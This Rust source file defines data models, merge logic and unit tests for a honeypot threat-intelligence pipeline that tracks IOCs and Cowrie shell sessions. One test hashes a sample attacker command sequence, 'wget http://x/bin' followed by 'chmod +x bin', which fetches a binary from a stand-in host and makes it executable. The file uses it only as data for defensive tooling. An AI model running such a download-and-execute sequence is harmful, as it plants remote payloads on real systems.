//! Core data models for honeypot threat intelligence

use chrono::{DateTime, NaiveDate, Utc};
use serde::{Deserialize, Serialize};
use sqlx::FromRow;

pub mod ioc_utils;

/// Kind of an IOC record
#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq, sqlx::Type)]
#[sqlx(type_name = "ioc_kind", rename_all = "lowercase")]
#[serde(rename_all = "lowercase")]
pub enum IocKind {
    Ip,
    Domain,
}

impl std::fmt::Display for IocKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            IocKind::Ip => write!(f, "ip"),
            IocKind::Domain => write!(f, "domain"),
        }
    }
}

/// How an IOC was observed attacking
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackType {
    Scanner,
    PayloadRequest,
}

/// Main IOC record, keyed by `name` (unique).
#[derive(Debug, Clone, Serialize, Deserialize, FromRow)]
pub struct Ioc {
    pub name: String,
    pub kind: IocKind,
    pub first_seen: DateTime<Utc>,
    pub last_seen: DateTime<Utc>,
    /// Ordered unique dates on which this IOC was observed.
    pub days_seen: Vec<NaiveDate>,
    pub number_of_days_seen: i32,
    pub attack_count: i32,
    pub interaction_count: i32,
    pub login_attempts: i32,
    /// Sticky: never cleared once set.
    pub scanner: bool,
    /// Sticky: never cleared once set.
    pub payload_request: bool,
    pub ip_reputation: String,
    pub asn: Option<String>,
    pub destination_ports: Vec<i32>,
    pub related_urls: Vec<String>,
    pub recurrence_probability: f64,
    pub expected_interactions: f64,
    pub threat_level: f64,
}

/// A single observation of an IOC, produced by an extraction strategy.
/// Merged into the persistent [`Ioc`] record by the processor.
#[derive(Debug, Clone)]
pub struct IocCandidate {
    pub name: String,
    pub kind: IocKind,
    pub first_seen: DateTime<Utc>,
    pub last_seen: DateTime<Utc>,
    pub interaction_count: i32,
    pub login_attempts: i32,
    pub ip_reputation: String,
    pub asn: Option<String>,
    pub destination_ports: Vec<i32>,
    pub related_urls: Vec<String>,
}

impl IocCandidate {
    /// A minimal candidate observed right now, with a single interaction.
    pub fn new(name: impl Into<String>, kind: IocKind, seen: DateTime<Utc>) -> Self {
        Self {
            name: name.into(),
            kind,
            first_seen: seen,
            last_seen: seen,
            interaction_count: 1,
            login_attempts: 0,
            ip_reputation: String::new(),
            asn: None,
            destination_ports: vec![],
            related_urls: vec![],
        }
    }

    pub fn with_related_url(mut self, url: impl Into<String>) -> Self {
        self.related_urls.push(url.into());
        self
    }
}

impl Ioc {
    /// Build a fresh record from a first observation.
    pub fn from_candidate(candidate: &IocCandidate) -> Self {
        Self {
            name: candidate.name.clone(),
            kind: candidate.kind,
            first_seen: candidate.first_seen,
            last_seen: candidate.last_seen,
            days_seen: vec![],
            number_of_days_seen: 0,
            attack_count: 1,
            interaction_count: candidate.interaction_count,
            login_attempts: candidate.login_attempts,
            scanner: false,
            payload_request: false,
            ip_reputation: candidate.ip_reputation.clone(),
            asn: candidate.asn.clone(),
            destination_ports: candidate.destination_ports.clone(),
            related_urls: candidate.related_urls.clone(),
            recurrence_probability: 0.0,
            expected_interactions: 0.0,
            threat_level: 0.0,
        }
    }

    /// Merge a new observation into this record.
    ///
    /// Counters only grow, list fields are unioned, and the newest
    /// observation wins for reputation and ASN.
    pub fn merge_observation(&mut self, new: &IocCandidate) {
        self.last_seen = self.last_seen.max(new.last_seen);
        self.attack_count += 1;
        self.interaction_count += new.interaction_count;
        self.login_attempts += new.login_attempts;
        self.related_urls = union_sorted(&self.related_urls, &new.related_urls);
        self.destination_ports = union_sorted(&self.destination_ports, &new.destination_ports);
        self.ip_reputation = new.ip_reputation.clone();
        self.asn = new.asn.clone();
    }

    /// Append the day of the last observation to `days_seen` unless it is
    /// already the most recent entry.
    pub fn record_day_seen(&mut self) {
        let day = self.last_seen.date_naive();
        if self.days_seen.last() != Some(&day) {
            self.days_seen.push(day);
        }
        self.number_of_days_seen = self.days_seen.len() as i32;
    }

    /// OR the flag for this attack type into the record. Flags are sticky.
    pub fn apply_attack_type(&mut self, attack_type: AttackType) {
        self.scanner = self.scanner || attack_type == AttackType::Scanner;
        self.payload_request = self.payload_request || attack_type == AttackType::PayloadRequest;
    }
}

fn union_sorted<T: Clone + Ord>(a: &[T], b: &[T]) -> Vec<T> {
    let mut merged: Vec<T> = a.iter().chain(b.iter()).cloned().collect();
    merged.sort();
    merged.dedup();
    merged
}

/// A trusted honeypot sensor address. Sensors never become IOCs.
#[derive(Debug, Clone, Serialize, Deserialize, FromRow)]
pub struct Sensor {
    pub address: String,
}

/// A registered honeypot. Hits from honeypots with `active = false` are
/// discarded during extraction.
#[derive(Debug, Clone, Serialize, Deserialize, FromRow)]
pub struct Honeypot {
    pub name: String,
    pub active: bool,
}

/// One interactive Cowrie session, keyed by the integer value of its
/// 12-hex-digit session id.
#[derive(Debug, Clone, Serialize, Deserialize, FromRow)]
pub struct CowrieSession {
    pub session_id: i64,
    pub source_name: String,
    pub start_time: Option<DateTime<Utc>>,
    pub duration: f64,
    pub login_attempt: bool,
    pub command_execution: bool,
    pub interaction_count: i32,
    pub credentials: Vec<String>,
    pub commands_hash: Option<String>,
}

/// File transferred during a Cowrie session. Only recorded for events
/// that carry a content hash.
#[derive(Debug, Clone, Serialize, Deserialize, FromRow)]
pub struct FileTransfer {
    pub session_id: i64,
    pub shasum: String,
    pub url: Option<String>,
    pub destination_file: Option<String>,
}

/// Content-addressed sequence of shell commands, keyed by the sha256 of
/// the newline-joined command text. Identical content across sessions is
/// stored exactly once.
#[derive(Debug, Clone, Serialize, Deserialize, FromRow)]
pub struct CommandSequence {
    pub commands_hash: String,
    pub commands: Vec<String>,
    pub first_seen: DateTime<Utc>,
    pub last_seen: DateTime<Utc>,
    pub cluster: Option<i32>,
}

impl CommandSequence {
    /// Content hash of a command list: sha256 over the newline-joined text.
    pub fn hash_commands(commands: &[String]) -> String {
        use sha2::{Digest, Sha256};
        let joined = commands.join("\n");
        hex::encode(Sha256::digest(joined.as_bytes()))
    }
}

/// Enrichment tag attached to an IOC by a feed.
#[derive(Debug, Clone, Serialize, Deserialize, FromRow)]
pub struct Tag {
    pub ioc_name: String,
    pub key: String,
    pub value: String,
    pub source: String,
}

/// Parse a Cowrie session id: exactly 12 hex digits, interpreted as an
/// integer key.
pub fn parse_session_id(raw: &str) -> crate::error::Result<i64> {
    let trimmed = raw.trim();
    if trimmed.len() != 12 || !trimmed.chars().all(|c| c.is_ascii_hexdigit()) {
        return Err(crate::error::PipelineError::InvalidIdentifier(format!(
            "session id must be 12 hex digits, got {trimmed:?}"
        )));
    }
    // 12 hex digits are 48 bits, always within i64 range
    let value = u64::from_str_radix(trimmed, 16)
        .map_err(|e| crate::error::PipelineError::InvalidIdentifier(e.to_string()))?;
    Ok(value as i64)
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::NaiveDateTime;

    fn ts(s: &str) -> DateTime<Utc> {
        NaiveDateTime::parse_from_str(s, "%Y-%m-%d %H:%M:%S")
            .unwrap()
            .and_utc()
    }

    fn candidate(name: &str, seen: &str) -> IocCandidate {
        IocCandidate::new(name, IocKind::Ip, ts(seen))
    }

    #[test]
    fn merge_keeps_counters_monotonic() {
        let mut record = Ioc::from_candidate(&candidate("8.8.8.8", "2026-08-01 10:00:00"));
        let before_attacks = record.attack_count;
        let before_interactions = record.interaction_count;
        record.merge_observation(&candidate("8.8.8.8", "2026-08-02 10:00:00"));
        assert!(record.attack_count > before_attacks);
        assert!(record.interaction_count >= before_interactions);
    }

    #[test]
    fn merge_takes_max_last_seen() {
        let mut record = Ioc::from_candidate(&candidate("8.8.8.8", "2026-08-02 10:00:00"));
        // out-of-order observation must not move last_seen backwards
        record.merge_observation(&candidate("8.8.8.8", "2026-08-01 10:00:00"));
        assert_eq!(record.last_seen, ts("2026-08-02 10:00:00"));
    }

    #[test]
    fn merge_unions_ports_and_urls() {
        let mut first = candidate("8.8.8.8", "2026-08-01 10:00:00");
        first.destination_ports = vec![22, 80];
        first.related_urls = vec!["http://a/x".to_string()];
        let mut record = Ioc::from_candidate(&first);

        let mut second = candidate("8.8.8.8", "2026-08-01 11:00:00");
        second.destination_ports = vec![80, 443];
        second.related_urls = vec!["http://a/x".to_string(), "http://b/y".to_string()];
        record.merge_observation(&second);

        assert_eq!(record.destination_ports, vec![22, 80, 443]);
        assert_eq!(record.related_urls, vec!["http://a/x", "http://b/y"]);
    }

    #[test]
    fn newest_observation_wins_for_reputation_and_asn() {
        let mut record = Ioc::from_candidate(&candidate("8.8.8.8", "2026-08-01 10:00:00"));
        let mut new = candidate("8.8.8.8", "2026-08-02 10:00:00");
        new.ip_reputation = "mass scanner".to_string();
        new.asn = Some("15169".to_string());
        record.merge_observation(&new);
        assert_eq!(record.ip_reputation, "mass scanner");
        assert_eq!(record.asn.as_deref(), Some("15169"));
    }

    #[test]
    fn attack_flags_are_sticky() {
        let mut record = Ioc::from_candidate(&candidate("8.8.8.8", "2026-08-01 10:00:00"));
        record.apply_attack_type(AttackType::Scanner);
        assert!(record.scanner);
        record.apply_attack_type(AttackType::PayloadRequest);
        assert!(record.scanner && record.payload_request);
        // re-applying the same type is idempotent
        record.apply_attack_type(AttackType::Scanner);
        assert!(record.scanner && record.payload_request);
    }

    #[test]
    fn days_seen_appends_new_days_only() {
        let mut record = Ioc::from_candidate(&candidate("8.8.8.8", "2026-08-01 10:00:00"));
        record.record_day_seen();
        assert_eq!(record.number_of_days_seen, 1);

        record.merge_observation(&candidate("8.8.8.8", "2026-08-01 12:00:00"));
        record.record_day_seen();
        assert_eq!(record.number_of_days_seen, 1);

        record.merge_observation(&candidate("8.8.8.8", "2026-08-03 09:00:00"));
        record.record_day_seen();
        assert_eq!(record.number_of_days_seen, 2);
        assert_eq!(
            record.days_seen,
            vec![
                NaiveDate::from_ymd_opt(2026, 8, 1).unwrap(),
                NaiveDate::from_ymd_opt(2026, 8, 3).unwrap()
            ]
        );
    }

    #[test]
    fn command_hash_is_stable_per_content() {
        let a = vec!["wget http://x/bin".to_string(), "chmod +x bin".to_string()];
        let b = a.clone();
        assert_eq!(
            CommandSequence::hash_commands(&a),
            CommandSequence::hash_commands(&b)
        );
        let c = vec!["wget http://x/bin".to_string()];
        assert_ne!(
            CommandSequence::hash_commands(&a),
            CommandSequence::hash_commands(&c)
        );
    }

    #[test]
    fn session_id_parsing() {
        assert_eq!(parse_session_id("00000000000a").unwrap(), 10);
        assert_eq!(parse_session_id("ffffffffffff").unwrap(), 0xffff_ffff_ffff);
        assert!(parse_session_id("abc").is_err());
        assert!(parse_session_id("00000000000g").is_err());
        assert!(parse_session_id("0000000000000a").is_err());
        assert!(parse_session_id("").is_err());
    }
}
